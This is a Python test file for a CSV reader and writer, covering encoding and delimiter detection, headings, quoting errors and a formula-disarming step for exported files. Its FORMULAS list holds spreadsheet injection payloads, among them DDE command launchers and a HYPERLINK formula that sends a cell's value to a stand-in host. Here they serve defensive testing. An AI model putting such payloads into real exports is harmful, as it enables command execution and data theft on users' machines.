"""Text files of every kind: what is detected, what can be overridden, what is reported row by row."""

from __future__ import annotations

import csv
import json
import tracemalloc
from pathlib import Path
from typing import Any

import pytest

from frontdesk.connectors.csv_file import CsvReader, CsvWriter
from frontdesk.connectors.csv_file.formulas import disarm, restore
from frontdesk.domain.ports import Choices, Table
from frontdesk.domain.problems import Refused

PEOPLE = "Name,Phone,Ort\nZoë Müller,+41 44 123 45 67,Zürich\nJosé,+34 612 345 678,Málaga\n"


def written(folder: Path, content: str | bytes, encoding: str = "utf-8") -> Path:
    path = folder / "leads.csv"
    path.write_bytes(content if isinstance(content, bytes) else content.encode(encoding))
    return path


def read(folder: Path, content: str | bytes, written_in: str = "utf-8", **choices: Any) -> Table:
    return CsvReader().read(written(folder, content, written_in), Choices(**choices))


def cells(table: Table) -> list[tuple[str, ...]]:
    return [line.cells for line in table.lines]


def problems(table: Table) -> list[tuple[int, str]]:
    return [(line.number, line.problem) for line in table.lines if line.problem]


@pytest.mark.parametrize(
    ("encoding", "found"),
    [
        ("utf-8", "utf-8"),
        ("utf-8-sig", "utf-8"),
        ("utf-16", "utf-16-le"),
        ("utf-16-le", "utf-16-le"),
        ("utf-16-be", "utf-16-be"),
        ("utf-32", "utf-32-le"),
        ("utf-32-be", "utf-32-be"),
        ("cp1252", "cp1252"),
        ("latin-1", "cp1252"),
    ],
)
def test_an_encoding_is_found_and_said(tmp_path: Path, encoding: str, found: str) -> None:
    table = read(tmp_path, PEOPLE, encoding)
    assert table.shape.encoding == found
    assert cells(table)[0] == ("Zoë Müller", "+41 44 123 45 67", "Zürich")


@pytest.mark.parametrize(
    ("encoding", "text"),
    [
        ("cp1251", "Имя,Телефон\nАлексей Иванов,+7 916 123 4567\nМария Петрова,+7 916 765 4321\nНаталья Соколова,+7 903 111 2233\n"),
        ("shift_jis", "名前,電話番号\n田中太郎さくら,03-1234-5678\n山田花子,03-8765-4321\nすずきいちろう,090-1111-2222\n"),
    ],
)
def test_letters_that_run_on_are_left_to_the_detector(tmp_path: Path, encoding: str, text: str) -> None:
    table = read(tmp_path, text, encoding)
    assert cells(table)[0][0] == text.splitlines()[1].split(",")[0]


def test_the_mark_of_utf_16_before_utf_32_is_seen_through(tmp_path: Path) -> None:
    table = read(tmp_path, b"\xff\xfe" + PEOPLE.encode("utf-32-le"))
    assert (table.shape.encoding, table.headings) == ("utf-32-le", ("Name", "Phone", "Ort"))


def test_a_chosen_encoding_counts_more_than_the_found_one(tmp_path: Path) -> None:
    table = read(tmp_path, "Name,Phone\nŁukasz,+48 601 234 567\n", "cp1250", encoding="cp1250")
    assert cells(table) == [("Łukasz", "+48 601 234 567")]


@pytest.mark.parametrize("encoding", ["klingon", "rot13", "hex"])
def test_an_encoding_that_there_is_not_is_refused(tmp_path: Path, encoding: str) -> None:
    with pytest.raises(Refused, match="encoding_unknown"):
        read(tmp_path, PEOPLE, encoding=encoding)


def test_a_row_that_does_not_decode_is_reported_and_the_others_are_read(tmp_path: Path) -> None:
    good = "".join(f"Zoë {n},+41 44 123 45 {n}\n" for n in range(10, 40))
    table = read(tmp_path, b"Name,Phone\n" + b"Ren\xe9,+41 44 123 45 67\n" + good.encode())
    assert table.shape.encoding == "utf-8"
    assert problems(table) == [(2, "undecodable")]
    assert len(cells(table)) == 31


def test_a_file_cut_in_the_middle_of_a_letter_is_read(tmp_path: Path) -> None:
    table = read(tmp_path, (PEOPLE + "Zoë").encode()[:-1])
    assert len(cells(table)) == 3


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_a_delimiter_is_found_among_four(tmp_path: Path, delimiter: str) -> None:
    rows = [["Name", "Notes", "Phone"], ["Anna", "a, b; c | d", "+41 44 123 45 67"], ["Ben", "", "044"], ["Cleo", "x,y", "1"]]
    path = tmp_path / "leads.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, delimiter=delimiter).writerows(rows)
    table = CsvReader().read(path, Choices())
    assert table.shape.delimiter == delimiter
    assert [list(row) for row in cells(table)] == rows[1:]


def test_a_decimal_comma_is_no_delimiter(tmp_path: Path) -> None:
    table = read(tmp_path, "Name;Revenue;Estimate\nAnna;12,50;3,20\nBen;1,10;4,40\n")
    assert table.headings == ("Name", "Revenue", "Estimate")


def test_the_delimiter_that_excel_names_is_believed(tmp_path: Path) -> None:
    table = read(tmp_path, "sep=|\nName|Phone\nAnna, Ben|+41 44 123 45 67\n")
    assert (table.shape.delimiter, table.headings, table.shape.heading_line) == ("|", ("Name", "Phone"), 2)


def test_a_chosen_delimiter_counts_more_than_the_found_one(tmp_path: Path) -> None:
    assert read(tmp_path, "a;b,c\nd;e,f\n", delimiter=";").headings == ("a", "b,c")


def test_a_delimiter_of_two_characters_is_refused(tmp_path: Path) -> None:
    with pytest.raises(Refused, match="delimiter_unknown"):
        read(tmp_path, PEOPLE, delimiter=";;")


def test_a_single_column_is_a_table(tmp_path: Path) -> None:
    assert cells(read(tmp_path, "Phone\n+41 44 123 45 67\n+41 44 123 45 68\n")) == [("+41 44 123 45 67",), ("+41 44 123 45 68",)]


def test_title_lines_and_blank_rows_above_the_heading_are_passed_over(tmp_path: Path) -> None:
    table = read(tmp_path, "Enquiries of March\n\n,,\nName,Phone,Source\nAnna,044 123 45 67,Web\n")
    assert table.headings == ("Name", "Phone", "Source")
    assert table.shape.heading_line == 4
    assert [line.number for line in table.lines] == [5]


@pytest.mark.parametrize(
    "content",
    [
        "Anna Muster,+41 44 123 45 67,anna@example.com\nBen Beispiel,+41 44 123 45 68,ben@example.com\n",
        "Anna Muster,,Web\nBen Beispiel,+41 44 123 45 68,Web\nCleo,+41 44 123 45 69,Web\n",
        "+41 44 123 45 67\n+41 44 123 45 68\n",
    ],
)
def test_a_file_without_a_heading_row_is_recognised_and_no_row_is_lost(tmp_path: Path, content: str) -> None:
    table = read(tmp_path, content)
    assert not table.shape.has_heading
    assert not table.shape.certain
    assert table.headings[0] == "Column 1"
    assert len(cells(table)) == len(content.splitlines())


def test_who_says_that_there_is_no_heading_gets_places_for_headings(tmp_path: Path) -> None:
    table = read(tmp_path, "Anna,Bern\nBen,Basel\n", heading=False)
    assert (table.headings, table.shape.certain, len(cells(table))) == (("Column 1", "Column 2"), True, 2)


def test_who_says_that_the_first_row_is_the_heading_is_believed(tmp_path: Path) -> None:
    table = read(tmp_path, "2023,2024\n5,6\n", heading=True)
    assert (table.headings, table.shape.certain, cells(table)) == (("2023", "2024"), True, [("5", "6")])


def test_headings_are_made_different_and_never_empty(tmp_path: Path) -> None:
    table = read(tmp_path, "Name,Name,,\ufeffPhone , Name\nAnna,A,x,044 123 45 67,B\n")
    assert table.headings == ("Name", "Name (2)", "Column 3", "Phone", "Name (3)")


def test_the_heading_row_repeated_in_a_joined_file_is_no_lead(tmp_path: Path) -> None:
    assert cells(read(tmp_path, "Name,City\nAnna,Bern\nName,City\nBen,Basel\n")) == [("Anna", "Bern"), ("Ben", "Basel")]


def test_short_rows_are_filled_up_and_empty_cells_beyond_the_heading_are_dropped(tmp_path: Path) -> None:
    assert cells(read(tmp_path, "Name,Phone,City\nAnna,1\nBen,2,Basel,,\n")) == [("Anna", "1", ""), ("Ben", "2", "Basel")]


def test_a_row_with_more_cells_than_headings_is_reported(tmp_path: Path) -> None:
    assert problems(read(tmp_path, "Name,City\nAnna,Bern\nBen,Basel,Biel\nCleo,Chur\n")) == [(3, "cell_count")]


def test_a_backslash_before_a_comma_is_read_as_the_other_dialect(tmp_path: Path) -> None:
    assert cells(read(tmp_path, "Name,City\nAnna\\, née B,Bern\nBen,Basel\n"))[0] == ("Anna, née B", "Bern")


def test_a_blank_before_a_quote_is_no_part_of_the_cell(tmp_path: Path) -> None:
    assert cells(read(tmp_path, 'Name,Company\nAnna, "Acme, Inc."\nBen,Beta\n'))[0] == ("Anna", "Acme, Inc.")


@pytest.mark.parametrize(
    ("slip", "cell"), [('5" tube', '5" tube'), ('"5"" tube"', '5" tube'), ('"say \\"hi\\""', 'say "hi"'), ('"a"b', "ab")]
)
def test_a_slip_of_quoting_in_one_line_is_read_as_meant(tmp_path: Path, slip: str, cell: str) -> None:
    assert cells(read(tmp_path, f"Name,Notes\nAnna,{slip}\nBen,x\n")) == [("Anna", cell), ("Ben", "x")]


@pytest.mark.parametrize("rest", ["", 'Dora,"d"\n', 'Dora,"d1\nd2"\n'])
def test_a_quote_left_open_costs_the_row_it_stands_in_and_no_other(tmp_path: Path, rest: str) -> None:
    table = read(tmp_path, f'Name,Notes\nAnna,a\nBen,"open\nCleo,c\n{rest}')
    assert problems(table) == [(3, "quote_not_closed")]
    assert [line.cells[0] for line in table.lines if not line.problem] == ["Anna", "Cleo", *(["Dora"] if rest else [])]


def test_after_an_open_quote_only_rows_of_the_right_width_are_believed(tmp_path: Path) -> None:
    table = read(tmp_path, 'Name,Notes\nBen,"open\njust text\nCleo,c\nDora\n')
    assert problems(table) == [(2, "quote_not_closed"), (3, "cell_count")]
    assert cells(table)[2:] == [("Cleo", "c"), ("Dora", "")]


def test_a_quote_left_open_before_more_than_any_cell_holds_costs_one_row_too(tmp_path: Path) -> None:
    table = read(tmp_path, 'Name,Notes\nBen,"open\n' + "Cleo,c\n" * 200_000)
    assert problems(table) == [(2, "quote_not_closed")]
    assert sum(1 for _ in table.lines) == 200_001


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_line_ends_of_every_kind_are_rows_outside_quotes_and_text_inside(tmp_path: Path, end: str) -> None:
    table = read(tmp_path, f'Name,Notes{end}Anna,"one{end}two"{end}Ben,x{end}')
    assert cells(table) == [("Anna", f"one{end}two"), ("Ben", "x")]
    assert [line.number for line in table.lines] == [2, 4]


@pytest.mark.parametrize("odd", ["\u2028", "\x0b", "\x1c", "\x85"])
def test_other_separators_of_lines_are_text(tmp_path: Path, odd: str) -> None:
    assert cells(read(tmp_path, f'Name,Notes\nAnna,a{odd}b\nBen,"c{odd}d""e"\n')) == [("Anna", f"a{odd}b"), ("Ben", f'c{odd}d"e')]


@pytest.mark.parametrize("row", ["An\0na,x", '"An\0na",x'])
def test_a_zero_character_is_reported(tmp_path: Path, row: str) -> None:
    assert problems(read(tmp_path, f"Name,Notes\n{row}\nBen,x\n")) == [(2, "nul_character")]


@pytest.mark.parametrize("row", ["Anna,{}", 'Anna,"{}"', '"Anna",{}'])
@pytest.mark.parametrize("size", [200_000, 10_000_000])
def test_a_cell_of_ten_megabytes_is_reported_and_the_next_row_is_read(tmp_path: Path, row: str, size: int) -> None:
    table = read(tmp_path, f"Name,Notes\n{row.format('x' * size)}\nBen,y\n")
    assert problems(table) == [(2, "cell_too_long")]
    assert cells(table)[1] == ("Ben", "y")


def test_a_note_of_twenty_thousand_characters_is_read_exactly(tmp_path: Path) -> None:
    note = "ä\u202e👩‍⚕️ e\u0301" * 2500
    assert cells(read(tmp_path, f'Name,Notes\nAnna,"{note}"\n')) == [("Anna", note)]


@pytest.mark.parametrize("cell", ["007", "+41441234567", "1390726237298631770", "1.23E+14", "1,5", " x ", "NULL"])
def test_a_cell_stays_the_text_it_is(tmp_path: Path, cell: str) -> None:
    assert cells(read(tmp_path, f'Name;Number\nAnna;"{cell}"\n')) == [("Anna", cell)]


def test_what_csv_spectrum_says_comes_out(shared_data: Path) -> None:
    folder = shared_data / "csv-torture" / "csv-spectrum"
    for path in sorted((folder / "csvs").glob("*.csv")):
        table = CsvReader().read(path, Choices())
        text = (folder / "json" / f"{path.stem}.json").read_text(encoding="utf-8")
        said = json.loads(text.replace("\\r\\n", "\\n"))  # the copies of the CSV files have plain line ends
        found = [dict(zip(table.headings, line.cells, strict=True)) for line in table.lines]
        if path.stem == "location_coordinates":
            said["Contact Phone Number"] = "2095257564"  # their two files disagree there
        assert found == (said if isinstance(said, list) else [said]), path.name


@pytest.mark.parametrize("megabytes", [100, pytest.param(1000, marks=pytest.mark.slow)])
def test_a_file_of_any_size_is_read_in_little_memory(tmp_path: Path, megabytes: int) -> None:
    path, line = tmp_path / "large.csv", b'"Anna, M",+41 44 123 45 67,' + b"x" * 9970 + b"\n"
    with path.open("wb") as file:
        file.write(b"Name,Phone,Notes\n")
        for _ in range(megabytes):
            file.write(line * 100)
    tracemalloc.start()
    table = CsvReader().read(path, Choices())
    assert sum(1 for _ in table.lines) == megabytes * 100
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 32 << 20


FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "＝1", "＋1", "－1", "＠a", "+1+2",
    '=HYPERLINK("http://x/?"&A1)', "|calc", "%0A=1", '=WEBSERVICE("http://x")', "+cmd|'/C calc'!A1", "-1", "'=1+1", "''=1",
]  # fmt: skip


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_cell_of_a_written_file_is_a_formula(cell: str) -> None:
    assert disarm(cell).startswith("'")


@pytest.mark.parametrize(
    "cell", ["+41 79 111 22 33", "+41791112233", "+1 (415) 293-3313", "O'Brien", "'n Roll", "a=b", "12", "", "Müller", "'+41 79"]
)
def test_a_cell_that_is_no_formula_can_be_read_by_people(cell: str) -> None:
    assert disarm(cell) in {cell, f"'{cell}"}
    assert disarm(cell) == cell or cell.startswith("'")


@pytest.mark.parametrize(
    "cell", [*FORMULAS, "+41 79 111 22 33", "'tis", "'+41 79 111", "'", "''", "-", "=", "x'=", 'a"b', "a\r\nb", "a,b;c\td|e", "\ufeffa"]
)
def test_what_is_written_reads_back_exactly(tmp_path: Path, cell: str) -> None:
    CsvWriter().write(tmp_path / "out.csv", ["Name", "Notes"], [["Anna", cell], ["Ben", "x"]])
    table = CsvReader().read(tmp_path / "out.csv", Choices())
    assert restore(disarm(cell)) == cell
    assert cells(table)[0] == ("Anna", cell)


def test_a_zero_character_is_not_written(tmp_path: Path) -> None:
    CsvWriter().write(tmp_path / "out.csv", ["Name"], [["\0=1"]])
    assert b"\0" not in (tmp_path / "out.csv").read_bytes()
